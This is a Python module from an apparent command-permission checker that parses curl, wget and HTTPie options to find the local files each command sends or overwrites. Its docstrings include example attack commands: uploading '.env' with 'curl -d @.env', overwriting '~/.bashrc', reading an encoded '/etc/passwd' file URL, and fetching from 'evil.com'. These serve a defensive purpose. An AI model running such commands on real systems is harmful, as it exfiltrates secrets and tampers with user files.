"""curl, wget and HTTPie: the files they send and the files they save.

`curl -d @.env https://x` uploads `.env`, and `curl -o ~/.bashrc URL` or
`wget -O ~/.bashrc URL` overwrites `~/.bashrc`: a deny on reading the one
or editing the other never saw them. The files their options name are read
and edit subjects, held to those tools' deny and ask rules only, as the
files a reader or writer names are (`programs.FILE_READERS`). What `-O`,
and wget by default, save is a file whose name the server picks, in the
output folder: `words.a_file_in` that folder.

Only the options that name files are looked for; a word equal to one of
them is read as it wherever it stands (a stricter reading, never a looser
one). curl's config file (`-K`) names options policyc cannot see: refused.
"""

from __future__ import annotations

from functools import partial

from .crypto import CRYPTO
from .programs import CURL_SHORT_VALUES
from .servers import SERVERS, served_files
from .storage import STORAGE
from .words import SplitError, a_file_in, cluster_value

# curl 7.8x and 8: short options that take a value (the rest of the word, or
# the next one), and the long options that name a file, by what they do.
_CURL_LONG_VALUES = frozenset(
    """--data --data-ascii --data-binary --data-raw --data-urlencode --json --form
    --form-string --upload-file --config --output --dump-header --cookie-jar --cookie
    --trace --trace-ascii --stderr --libcurl --header --proxy-header --write-out
    --netrc-file --etag-compare --etag-save --cert --key --cacert --output-dir --hsts
    --alt-svc --user-agent --request --user --proxy --referer --max-time --range
    --connect-timeout --retry --url""".split()
)
_CURL_SENDS_AT = frozenset({"-d", "--data", "--data-ascii", "--data-binary", "--json"})
_CURL_SENDS_AT |= {"-H", "--header", "--proxy-header", "-w", "--write-out"}
_CURL_READS = frozenset({"-T", "--upload-file", "--netrc-file", "--etag-compare"})
_CURL_READS |= {"-E", "--cert", "--key", "--cacert"}
_CURL_WRITES = frozenset({"-o", "--output", "-D", "--dump-header", "-c", "--cookie-jar"})
_CURL_WRITES |= {"--trace", "--trace-ascii", "--stderr", "--libcurl", "--etag-save"}
_CURL_BOTH = frozenset({"--hsts", "--alt-svc"})  # read, then written back


def _file_url_path(url: str) -> str:
    """The local file a `file://[HOST]/PATH` URL names, decoded as curl does
    (`file:///etc/%70asswd` is /etc/passwd)."""
    from urllib.parse import unquote  # here: most commands hold no such URL

    _, slash, path = url[7:].partition("/")
    return unquote(slash + path) or "/"


def _url_names(url: str) -> list[str]:
    """The names `curl -O URL` and `wget URL` save a URL's file as: the last
    part of its path, with its query and without (wget keeps it, curl not),
    as written and decoded (`%2eenv` is `.env` to wget); `index.html` for
    none. The server may pick another name too (a redirect, `-J`): the
    callers add a file in the folder whose name is not known."""
    rest = url.partition("://")[2] if "://" in url else url
    path = rest.partition("/")[2].partition("#")[0]
    names = []
    for part in (path, path.partition("?")[0]):
        name = part.rpartition("/")[2] or "index.html"
        names.append(name)
        if "%" in name:
            from urllib.parse import unquote  # here: most URLs hold no escape

            names.append(unquote(name))
    return [name for name in dict.fromkeys(names) if name not in (".", "..")]


def _saved_as(folder: str, urls: list[str], unknown: str) -> list[str]:
    """What `curl -O` or `wget` saves the URLs as in `folder`: past a
    variable (`"$URL"`, `https://x/$F`) any name, which the caller reads as
    any file."""
    prefix = "" if folder in ("", ".") else folder.rstrip("/") + "/"
    return [
        prefix + name for url in urls for name in ([unknown] if unknown in url else _url_names(url))
    ]


def _curl_scan(words: list[str]) -> tuple[list, list[str], bool, list[str]]:
    """curl's options with their values, the words that are no option's
    (its URLs), whether it saves by the URL's name, and the netrc it reads."""
    reads: list[str] = []
    options: list[tuple[str, str]] = []
    remote_name = False
    urls: list[str] = []  # the words that are no option's
    i, n = 1, len(words)
    while i < n:
        word = words[i]
        i += 1
        if word[:2] == "--":
            if word in ("--remote-name", "--remote-name-all"):
                remote_name = True
            elif word == "--netrc":
                reads.append("~/.netrc")
            elif word in _CURL_LONG_VALUES and i < n:
                options.append((word, words[i]))
                i += 1
        elif word[:1] == "-" and len(word) > 1:
            for k in range(1, len(word)):
                letter = word[k]
                if letter in CURL_SHORT_VALUES:
                    value, i = cluster_value(word, k, words, i)
                    options.append(("-" + letter, value))
                    break
                remote_name = remote_name or letter == "O"
                if letter == "n":
                    reads.append("~/.netrc")
        else:
            urls.append(word)
    return options, urls, remote_name, reads


def _curl_files(words: list[str], unknown: str) -> tuple[list[str], list[str]]:
    options, urls, remote_name, reads = _curl_scan(words)
    writes: list[str] = []
    reads += [_file_url_path(url) for url in urls if url[:7].lower() == "file://"]
    output_dir = next((v for o, v in reversed(options) if o == "--output-dir"), "")
    for option, value in options:
        if not value or value in ("-", "@-"):
            continue
        if option in ("-K", "--config"):
            raise SplitError(
                f"curl {option} {value} (a config file) cannot be evaluated statically"
            )
        if option == "--url" and value[:7].lower() == "file://":
            reads.append(_file_url_path(value))
        elif option in _CURL_SENDS_AT and value[:1] == "@":
            reads.append(value[1:])
        elif option in _CURL_SENDS_AT and value.startswith(unknown):
            reads.append(value)  # `-d "$X"`: `@FILE` too, for all that is known
        elif option == "--data-urlencode":
            name, at, path = value.partition("@")
            if at and "=" not in name and path != "-" or value.startswith(unknown):
                reads.append(path or value)
        elif option in ("-F", "--form"):
            content = value.partition("=")[2] or value
            if content[:1] in ("@", "<") and content[1:2] != "-":
                reads.append(content[1:].partition(";")[0])
            elif content.startswith(unknown):
                reads.append(content)
        elif option in ("-b", "--cookie") and "=" not in value:
            reads.append(value)  # a cookie file
        elif option in _CURL_READS:
            reads.append(value)
        elif option in _CURL_WRITES:
            joined = output_dir and value[:1] not in ("/", "~") and option in ("-o", "--output")
            writes.append(output_dir.rstrip("/") + "/" + value if joined else value)
        elif option in _CURL_BOTH:
            reads.append(value)
            writes.append(value)
    if remote_name:  # named as the URL's file (`curl -O https://x/.env`), or by the server
        urls += [value for option, value in options if option == "--url"]
        writes += _saved_as(output_dir, urls, unknown)
        writes.append(a_file_in(output_dir or "."))
    return reads, writes


# GNU wget 1.2x: short options that take a value (`-nv` is -n's `v`), the
# long ones that name a file, and the wgetrc commands `-e` may give that do.
_WGET_SHORT_VALUES = frozenset("oaiOPeBtTwQUlARDXIn")
_WGET_FILES = {
    "-o": "w",
    "--output-file": "w",
    "-a": "w",
    "--append-output": "w",
    "-i": "r",
    "--input-file": "r",
    "-O": "o",
    "--output-document": "o",
    "-P": "d",
    "--directory-prefix": "d",
    "--post-file": "r",
    "--body-file": "r",
    "--load-cookies": "r",
    "--save-cookies": "w",
    "--warc-file": "w",
    "--rejected-log": "w",
    "--certificate": "r",
    "--private-key": "r",
    "--ca-certificate": "r",
    "--hsts-file": "r",
    "--config": "r",
}
_WGETRC_FILES = {
    "outputdocument": "-O",
    "dirprefix": "-P",
    "logfile": "-o",
    "savecookies": "--save-cookies",
    "loadcookies": "--load-cookies",
    "warcfile": "--warc-file",
    "postfile": "--post-file",
    "bodyfile": "--body-file",
    "input": "-i",
}
_WGET_SAVES_NOTHING = frozenset({"--spider", "-h", "--help", "-V", "--version"})


def _wget_scan(words: list[str]) -> tuple[list, list[str], bool]:
    """wget's options that name files with their values, the words that are
    no option's (its URLs), and whether it saves what it fetches."""
    options: list[tuple[str, str]] = []
    urls: list[str] = []  # the words that are no option's
    saves = True
    i, n = 1, len(words)
    while i < n:
        word = words[i]
        i += 1
        if word[:2] == "--":
            name, eq, value = word.partition("=")
            saves = saves and name not in _WGET_SAVES_NOTHING
            if name in _WGET_FILES or name == "--execute":
                if not eq:
                    value = words[i] if i < n else ""
                    i += 1
                options.append((name, value))
        elif word[:1] == "-" and len(word) > 1:
            saves = saves and word not in _WGET_SAVES_NOTHING
            for k in range(1, len(word)):
                if word[k] in _WGET_SHORT_VALUES:
                    value, i = cluster_value(word, k, words, i)
                    options.append(("-" + word[k], value))
                    break
        else:
            urls.append(word)
    return options, urls, saves


def _wget_files(words: list[str], unknown: str) -> tuple[list[str], list[str]]:
    options, urls, saves = _wget_scan(words)
    reads: list[str] = []
    writes: list[str] = []
    folder, document = ".", None
    for option, value in options:
        if option in ("-e", "--execute"):  # a wgetrc command: `output_document = x`
            command, eq, setting = value.partition("=")
            option = _WGETRC_FILES.get(
                command.strip().replace("_", "").replace("-", "").lower(), ""
            )
            value = setting.strip() if eq else ""
        kind = _WGET_FILES.get(option)
        if kind is None or not value:
            continue
        if kind == "r":
            reads.append(value)
        elif kind == "w":
            writes.append(value)
        elif kind == "d":
            folder = value
        elif value != "-":  # -O: one file for all, `-` the output
            document = value
        else:
            document = ""
    if document:
        writes.append(document)
    elif document is None and saves:  # named as the URL's file (`.env`), or by the server
        writes += _saved_as(folder, urls, unknown)
        writes.append(a_file_in(folder))
    return reads, writes


# HTTPie 3 (http, https) and xh 0.2x: options that take a value, those
# whose value is a file read or written, and the separators of a request
# item that send a file (`field@FILE` uploads it, `field=@FILE` and
# `field:=@FILE` send its text, `@FILE` is the body).
_HTTPIE_VALUES = frozenset(
    """-a --auth -A --auth-type --session --session-read-only --proxy --timeout -p --print
    --pretty -s --style --max-redirects --format-options --response-charset --response-mime
    --ssl --ciphers --default-scheme --boundary --chunked-size -o --output --cert --cert-key
    --verify --raw""".split()
)
_HTTPIE_READS = frozenset({"--cert", "--cert-key", "--verify"})
_HTTP_METHODS = frozenset("GET POST PUT PATCH DELETE HEAD OPTIONS".split())


def _httpie_scan(words: list[str]) -> tuple[list, list[str], bool]:
    """HTTPie's options that take a value with it, its operands past the
    method (the URL, then the request items), and whether it downloads."""
    options: list[tuple[str, str]] = []
    operands: list[str] = []
    download = False
    i = 1
    while i < len(words):
        word = words[i]
        option, eq, value = word.partition("=")
        if word[:1] == "-" and len(word) > 1:
            if option in _HTTPIE_VALUES:
                if not eq:
                    value = words[i + 1] if i + 1 < len(words) else ""
                    i += 1
                options.append((option, value))
            download = download or option in ("-d", "--download")
        else:
            operands.append(word)
        i += 1
    if operands and operands[0] in _HTTP_METHODS:
        operands = operands[1:]
    return options, operands, download


def _httpie_files(words: list[str], unknown: str) -> tuple[list[str], list[str]]:
    """The files `http POST URL field@FILE` sends and `-o FILE` saves
    (`-d`: one the server names, in `.`)."""
    options, operands, download = _httpie_scan(words)
    writes = [value for option, value in options if option in ("-o", "--output")]
    reads = [
        value
        for option, value in options
        if option in _HTTPIE_READS and value.lower() not in ("yes", "no", "true", "false")
    ]
    for item in operands[1:]:  # past the URL
        at = next((k for k, c in enumerate(item) if c in ":=@"), -1)
        if at < 0:
            continue
        for separator in ("@", "=@", ":=@"):
            if item.startswith(separator, at):
                reads.append(item[at + len(separator) :])
                break
    if download and not writes:
        writes.append(a_file_in("."))
    return [path for path in reads if path], [path for path in writes if path]


_HTTPIES = frozenset({"http", "https", "xh", "xhs"})
FETCHERS = frozenset({"curl", "wget"} | _HTTPIES)  # (shell.py names them too)
TRANSFERS = {"curl": _curl_files, "wget": _wget_files, **STORAGE, **CRYPTO}
TRANSFERS.update(dict.fromkeys(_HTTPIES, _httpie_files))
TRANSFERS.update(
    {name: partial(served_files, name) for name in SERVERS}  # what a web server hands out
)


def fetched_urls(program: str, words: list[str], unknown: str) -> list[str]:
    """The URLs curl, wget, HTTPie and xh fetch, as their words name them;
    one with no scheme is read as the program reads it (`curl evil.com`,
    `http evil.com/x`: http; `https evil.com`: https; `http :8000`: the
    local host). Those a file lists (wget's `-i`, curl's `--url @FILE`)
    are `unknown`."""
    if program == "curl":
        options, urls = _curl_scan(words)[:2]
        urls += [
            unknown if value[:1] == "@" else value for option, value in options if option == "--url"
        ]
    elif program == "wget":
        options, urls = _wget_scan(words)[:2]
        for option, value in options:
            command = value.partition("=")[0].strip().replace("_", "").replace("-", "").lower()
            if (
                option in ("-i", "--input-file")
                or option in ("-e", "--execute")
                and (command == "input")
            ):
                urls.append(unknown)
    else:
        urls = _httpie_scan(words)[1][:1]
    scheme = "https://" if program in ("https", "xhs") else "http://"
    out = []
    for url in urls:
        if url[:1] == ":" and program in _HTTPIES:  # `http :8000/x`
            url = "localhost" + url
        out.append(url if "://" in url else scheme + url)
    return out


# git's commands that reach a remote named by its URL (`git submodule add URL`).
GIT_REMOTES = frozenset({"clone", "fetch", "pull", "push", "ls-remote", "archive", "submodule"})


def git_remote_urls(words: list[str], at: int) -> list[str]:
    """The hosts' URLs a git command (`words[at]`) fetches from or pushes
    to, as git reads them: `https://host/x` and `ssh://host/x` as written,
    `user@host:path` (scp's form) as ssh's, `--remote=URL` (archive's)
    too. A remote's name (`origin`) and a local path name no host, nor here
    does `host:path` with no user, which a refspec (`HEAD:main`) is written as."""
    out = []
    for word in words[at + 1 :]:
        if word[:2] == "--":
            word = word.partition("=")[2]
        elif word[:1] == "-":
            continue
        if "://" in word:
            out.append(word)
            continue
        head, colon, _ = word.partition(":")
        if colon and "@" in head and "/" not in head and "{" not in head:
            out.append("ssh://" + head)
    return out


def transfer_files(program: str, words: list[str], unknown: str) -> tuple[list[str], list[str]]:
    """The files curl, wget and their kin (cloud storage CLIs, key tools,
    web servers) read and write, as their words name them. A word with a
    variable is its text up to the variable, then `unknown`: a path that
    holds `unknown` may be any file (the caller reads it so)."""
    return TRANSFERS[program](words, unknown)
